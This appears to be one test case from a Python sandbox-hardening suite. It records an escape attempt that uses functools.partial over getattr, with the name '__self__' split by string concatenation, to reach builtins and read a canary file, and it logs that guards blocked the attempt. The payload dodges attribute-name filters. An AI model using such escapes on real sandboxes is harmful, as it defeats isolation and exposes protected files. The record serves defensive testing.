# Technique   getattr bound by functools.partial
# Mechanism   the object is given before the name
# As shipped  failed: AttributeError: the attribute '__self__' is refused: it begins with an underscore
# Unguarded   blocked: openat

return functools.partial(getattr, len)("__sel" + "f__").open(CANARY_FILE).read()
